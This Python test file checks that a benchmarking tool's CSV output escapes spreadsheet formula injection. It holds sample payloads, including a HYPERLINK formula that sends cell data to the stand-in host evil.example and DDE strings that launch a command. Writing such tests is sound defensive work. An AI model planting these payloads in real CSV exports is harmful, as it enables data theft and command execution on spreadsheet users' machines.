"""CSV formula injection: names, paths, model names and sample text that start like a spreadsheet
formula (`= + - @`, a tab, a carriage return, also after spaces), through every CSV pertool
writes (`pertool compare --format csv`, to stdout and `--out`; `ablation.csv`).

A case fails when a text cell comes out that a spreadsheet would evaluate, when an escaped cell
is not exactly the original with a leading apostrophe, or when a number pertool computed
(a negative difference included) is not written as a plain number.
"""

from __future__ import annotations

import atexit
import csv
import json
import shutil
import tempfile
from pathlib import Path

from hostile import Case, case, pertool
from pertool.report.csv_cells import FORMULA_START, csv_row, number_cell, text_cell

CASES: list[Case] = []

PREFIXES = ["=", "+", "-", "@", "\t", "\r", " =", "  -", " @"]
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3", "@": "@SUM(1+1)*cmd|' /C calc'!A0", "\t": "\t=1+1", "\r": "\r=1+1",
    " =": " =1+1", "  -": "  -1+1", " @": " @SUM(A1)",
}  # fmt: skip
NUMERIC = {"rank", "n", "shared_n", "diff_vs_best", "diff_low", "diff_high", "p_value"}
TEXT = {"run", "path", "model", "profile_view", "sorted_by", "significant", "condition", "run_dir"}

_TEMPLATE: dict[str, Path] = {}


def _template() -> Path:
    """One finished oracle run on the example benchmark, made once and copied by each case."""
    if "run" not in _TEMPLATE:
        root = Path(tempfile.mkdtemp(prefix="hostile-csv-template-"))
        atexit.register(shutil.rmtree, root, True)
        proc = pertool("eval", "--benchmark", "example", "--model", "oracle", "--no-progress", "--resamples", "0",
                       "--out", root / "run", timeout=120)  # fmt: skip
        assert proc.returncode == 0, proc.stderr[-500:]
        _TEMPLATE["run"] = root / "run"
    return _TEMPLATE["run"]


def _copy_run(dest: Path, *, model: str | None = None, wrong: int = 0) -> Path:
    """A copy of the template run; `model` rewrites config.json's model, `wrong` spoils that many
    answers (so the run ranks below the template and its difference is negative)."""
    shutil.copytree(_template(), dest)
    if model is not None:
        config = json.loads((dest / "config.json").read_text())
        config["model"] = model
        (dest / "config.json").write_text(json.dumps(config))
    if wrong:
        lines = (dest / "predictions.jsonl").read_text().splitlines()
        for i in range(wrong):
            record = json.loads(lines[i])
            record["output"] = "not an answer"
            lines[i] = json.dumps(record)
        (dest / "predictions.jsonl").write_text("".join(x + "\n" for x in lines))
    return dest


def _rows(file: Path) -> list[dict[str, str]]:
    with open(file, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _check_cells(rows: list[dict[str, str]]) -> None:
    """No text cell reads as a formula; numeric cells are numbers or empty."""
    for row in rows:
        for column, cell in row.items():
            if column in NUMERIC or column.endswith(("_low", "_high")) or column not in TEXT:
                if cell not in ("", "true", "false"):
                    float(cell)  # raises on an escaped or text cell
                continue
            risky = cell.startswith(FORMULA_START) or cell.lstrip(" ").startswith(FORMULA_START)
            assert not risky, f"{column} cell {cell!r} would be evaluated as a formula"


def _compare_csv(*runs: Path, cwd: Path | None = None, out: Path | None = None) -> list[dict[str, str]]:
    """`pertool compare --format csv` to a file (read as CSV is meant to be read: no newline
    translation, so a carriage return inside a cell stays one), checked cell by cell."""
    if out is None:  # beside the template run, removed at exit with it
        out = Path(tempfile.mkdtemp(prefix="board-", dir=_template().parent)) / "board.csv"
    proc = pertool("compare", "--format", "csv", "--resamples", "50", "--out", out, "--", *runs, cwd=cwd,
                   timeout=120)  # a run path may start with "-", hence "--"  # fmt: skip
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-800:]
    with open(out, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == len(runs), f"{len(runs)} runs gave {len(rows)} rows: a cell broke a row"
    _check_cells(rows)
    return rows


# -- the escaping rule itself ------------------------------------------------------------------


for _prefix, _payload in PAYLOADS.items():

    @case(CASES, f"text_cell escapes {_prefix!r}")
    def _escapes(work: Path, payload: str = _payload) -> None:
        assert text_cell(payload) == "'" + payload
        assert csv_row([payload]) == ["'" + payload]


@case(CASES)
def plain_text_and_inner_formula_characters_stay_as_they_are(work: Path) -> None:
    for text in ("gpt-4o", "run-1", "a=b", "x+y", "user@example.com", "", "'already", "1-2"):
        assert text_cell(text) == text, text


@case(CASES)
def numbers_pertool_computed_stay_numbers(work: Path) -> None:
    import numpy as np

    assert csv_row([-0.25, -3, np.float64(-0.5), np.int64(-7), None, 0.1234567]) == [
        "-0.25", "-3", "-0.5", "-7", "", "0.123457"]  # fmt: skip
    assert number_cell(float("-inf")) == "'-inf"  # not a spreadsheet number: escaped text
    assert csv_row(["-0.25"]) == ["'-0.25"]  # a string from data that looks like a number is text


# -- pertool compare --format csv ------------------------------------------------------------------


for _prefix, _payload in PAYLOADS.items():
    _dirname = _payload.replace("/", "_")

    @case(CASES, f"compare: run directory named {_payload!r}")
    def _run_name(work: Path, dirname: str = _dirname) -> None:
        hostile = _copy_run(work / dirname, wrong=1)
        good = _copy_run(work / "good")
        rows = _compare_csv(good, hostile)
        row = next(r for r in rows if r["run"] != "good")
        assert row["run"] == "'" + dirname, row["run"]
        assert row["path"] == str(hostile)  # absolute: starts with "/", nothing to escape

    @case(CASES, f"compare: model named {_payload!r}")
    def _model_name(work: Path, payload: str = _payload) -> None:
        rows = _compare_csv(_copy_run(work / "a", model=payload), _copy_run(work / "b", wrong=2))
        assert rows[0]["model"] == "'" + payload, rows[0]["model"]


for _prefix in ("=", "+", "-", "@"):

    @case(CASES, f"compare: relative path starting with {_prefix!r}")
    def _relative_path(work: Path, prefix: str = _prefix) -> None:
        _copy_run(work / f"{prefix}evil" / "run")
        rows = _compare_csv(Path(f"{prefix}evil/run"), cwd=work)
        assert rows[0]["path"] == f"'{prefix}evil/run" and rows[0]["run"] == "run", rows[0]


@case(CASES)
def compare_duplicate_names_fall_back_to_escaped_paths(work: Path) -> None:
    _copy_run(work / "=a" / "run")
    _copy_run(work / "=b" / "run", wrong=1)
    rows = _compare_csv(Path("=a/run"), Path("=b/run"), cwd=work)
    assert {r["run"] for r in rows} == {"'=a/run", "'=b/run"}


@case(CASES)
def compare_csv_with_quotes_commas_and_newlines_in_a_formula(work: Path) -> None:
    model = '=1+1,"quoted"\nsecond line'
    rows = _compare_csv(_copy_run(work / "a", model=model))
    assert rows[0]["model"] == "'" + model


@case(CASES)
def compare_stdout_is_escaped_like_the_out_file(work: Path) -> None:
    runs = (_copy_run(work / "=sum", model="@evil"), _copy_run(work / "-low", wrong=3))
    to_file = _compare_csv(*runs, out=work / "board.csv")
    proc = pertool("compare", "--format", "csv", "--resamples", "50", "--", *runs, timeout=120)
    assert proc.returncode == 0, proc.stderr[-500:]
    assert proc.stdout == (work / "board.csv").read_text(encoding="utf-8")
    assert {r["run"] for r in to_file} == {"'=sum", "'-low"}


@case(CASES)
def compare_carriage_returns_inside_names_do_not_break_rows(work: Path) -> None:
    runs = (_copy_run(work / "a\r=1+1\rb", model="x\r-2\r\n@y"), _copy_run(work / "\r@c", wrong=1))
    rows = _compare_csv(*runs)
    assert {r["run"] for r in rows} == {"a\r=1+1\rb", "'\r@c"}
    assert rows[0]["model"] == "x\r-2\r\n@y"


@case(CASES)
def compare_negative_differences_stay_numbers(work: Path) -> None:
    rows = _compare_csv(_copy_run(work / "best"), _copy_run(work / "worse", wrong=4))
    worse = next(r for r in rows if r["run"] == "worse")
    assert float(worse["diff_vs_best"]) < 0 and worse["diff_vs_best"].startswith("-")
    assert float(worse["diff_low"]) < 0


@case(CASES)
def compare_sample_text_with_formulas_never_reaches_a_cell_unescaped(work: Path) -> None:
    """A benchmark whose queries and ids look like formulas, run by the oracle, then compared."""
    from pertool.benchmarks.registry import EXAMPLE_PREDICTIONS

    example = EXAMPLE_PREDICTIONS.parent
    data = work / "bench"
    for split_dir in ("test_trained_user", "test_untrained_user"):
        records = json.loads((example / split_dir / "data.json").read_text(encoding="utf-8"))
        for i, record in enumerate(records):
            record["query"] = PAYLOADS[PREFIXES[i % len(PREFIXES)]] + " " + str(record.get("query", ""))
        (data / split_dir).mkdir(parents=True)
        (data / split_dir / "data.json").write_text(json.dumps(records), encoding="utf-8")
    for name in ("=q1", "+q2"):
        proc = pertool("eval", "--benchmark", f"ptbench:{data}", "--model", "oracle", "--no-progress",
                       "--resamples", "0", "--out", work / name, timeout=120)  # fmt: skip
        assert proc.returncode == 0, proc.stderr[-500:]
    rows = _compare_csv(work / "=q1", work / "+q2")
    assert {r["run"] for r in rows} == {"'=q1", "'+q2"}


# -- ablation.csv --------------------------------------------------------------------------------


@case(CASES)
def ablation_csv_is_escaped_and_numeric(work: Path) -> None:
    out = work / "=ablate"
    proc = pertool("ablate", "--benchmark", "example", "--model", "oracle", "--resamples", "20",
                   "--no-progress", "--out", out, timeout=180)  # fmt: skip
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-800:]
    rows = _rows(out / "ablation.csv")
    assert rows and all(r["n"].isdigit() for r in rows)
    _check_cells(rows)
